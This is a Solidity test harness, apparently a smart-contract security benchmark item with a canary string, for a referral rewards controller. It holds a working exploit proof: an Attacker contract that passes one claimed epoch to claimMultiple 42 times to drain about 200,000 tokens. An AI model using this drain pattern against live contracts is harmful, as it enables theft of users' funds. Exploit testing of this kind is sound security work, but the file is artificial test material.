// SPDX-License-Identifier: UNLICENSED
pragma solidity 0.8.24;

import "./LevelReferralController.sol";

// assay-canary-d9a2fea1-6f42-4ab3-b94c-556aa60f9cb1

interface Vm {
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
    function expectRevert(bytes calldata reason) external;
}

contract Lvl is IERC20 {
    address private minter = msg.sender;
    bool public silent;
    mapping(address => uint256) public balanceOf;

    function mint(address to, uint256 amount) external {
        require(msg.sender == minter, "minter only");
        balanceOf[to] += amount;
    }

    function quieten() external {
        require(msg.sender == minter, "minter only");
        silent = true;
    }

    function transfer(address to, uint256 amount) external returns (bool) {
        if (silent) return false;
        balanceOf[msg.sender] -= amount;
        balanceOf[to] += amount;
        return true;
    }
}

contract Proof {
    Vm internal constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address internal constant ANA = address(0xA9A);
    address internal constant BEN = address(0xBE9);
    address internal constant TRADER = address(0x77A);

    Lvl internal lvl;
    LevelReferralController internal referral;
    Attacker internal thief;

    function setUp() public {
        lvl = new Lvl();
        referral = new LevelReferralController(lvl);
        referral.setOrderHook(address(this));
        referral.setDistributor(address(this));
        lvl.mint(address(referral), 214_000e18);
        thief = new Attacker(referral);
        vm.prank(TRADER);
        referral.setReferrer(ANA);
        vm.prank(BEN);
        referral.setReferrer(address(thief));
        epoch(900e18, 100e18);
        epoch(600e18, 200e18);
    }

    function epoch(uint256 first, uint256 second) internal {
        referral.updatePoint(TRADER, first);
        referral.updatePoint(BEN, second);
        referral.updatePoint(address(0x123), 5e18); // without a referrer
        referral.nextEpoch(20_000e18);
    }

    function test_Regular() public {
        require(referral.claimable(0, ANA) == 18_000e18 && referral.claimable(1, ANA) == 15_000e18, "claimable");
        uint256[] memory list = new uint256[](2);
        list[1] = 1;
        vm.prank(ANA);
        require(referral.claimMultiple(list, ANA) == 33_000e18 && lvl.balanceOf(ANA) == 33_000e18, "two epochs");
        require(referral.claimable(0, ANA) == 0, "claimed");
        epoch(10e18, 0);
        vm.prank(ANA);
        require(referral.claim(2, BEN) == 20_000e18 && lvl.balanceOf(BEN) == 20_000e18, "one epoch");
        require(referral.currentEpoch() == 3, "epochs");
        referral.setOwner(ANA);
        require(referral.owner() == ANA, "owner");
    }

    function test_RefusesStrangers() public {
        bytes memory no = abi.encodeWithSelector(Appointed.Unauthorized.selector, ANA);
        vm.startPrank(ANA);
        vm.expectRevert(no);
        referral.setOrderHook(ANA);
        vm.expectRevert(no);
        referral.setDistributor(ANA);
        vm.expectRevert(no);
        referral.setOwner(ANA);
        vm.expectRevert(no);
        referral.updatePoint(TRADER, 1);
        vm.expectRevert(no);
        referral.nextEpoch(1);
        vm.stopPrank();
    }

    function test_RefusesReferrers() public {
        vm.expectRevert(abi.encodeWithSelector(LevelReferralController.InvalidReferrer.selector, address(0)));
        referral.setReferrer(address(0));
        vm.expectRevert(abi.encodeWithSelector(LevelReferralController.InvalidReferrer.selector, address(this)));
        referral.setReferrer(address(this));
        vm.prank(TRADER);
        vm.expectRevert(abi.encodeWithSelector(LevelReferralController.InvalidReferrer.selector, BEN));
        referral.setReferrer(BEN);
    }

    function test_RefusesEpochsThatRun() public {
        uint256[] memory list = new uint256[](1);
        list[0] = 2;
        vm.startPrank(ANA);
        vm.expectRevert(abi.encodeWithSelector(LevelReferralController.EpochRunning.selector, 2));
        referral.claimMultiple(list, ANA);
        vm.expectRevert(abi.encodeWithSelector(LevelReferralController.EpochRunning.selector, 2));
        referral.claim(2, ANA);
        referral.claim(1, ANA);
        vm.expectRevert(abi.encodeWithSelector(LevelReferralController.NothingToClaim.selector));
        referral.claim(1, ANA);
        vm.stopPrank();
        lvl.quieten();
        vm.prank(ANA);
        vm.expectRevert(abi.encodeWithSelector(LevelReferralController.TransferFailed.selector));
        referral.claim(0, ANA);
    }

    function exploit() public {
        thief.run();
    }

    function test_Exploit() public {
        exploit();
        require(lvl.balanceOf(address(thief)) >= 200_000e18, "nothing gained");
    }

    function asset() public view returns (address) {
        return address(lvl);
    }

    function target() public view returns (address) {
        return address(referral);
    }

    function attacker() public view returns (address) {
        return address(thief);
    }
}

contract Attacker {
    LevelReferralController internal referral;

    constructor(LevelReferralController referral_) {
        referral = referral_;
    }

    function run() external {
        uint256[] memory list = new uint256[](42);
        for (uint256 i; i < 42; ++i) list[i] = 1;
        referral.claimMultiple(list, address(this));
    }
}
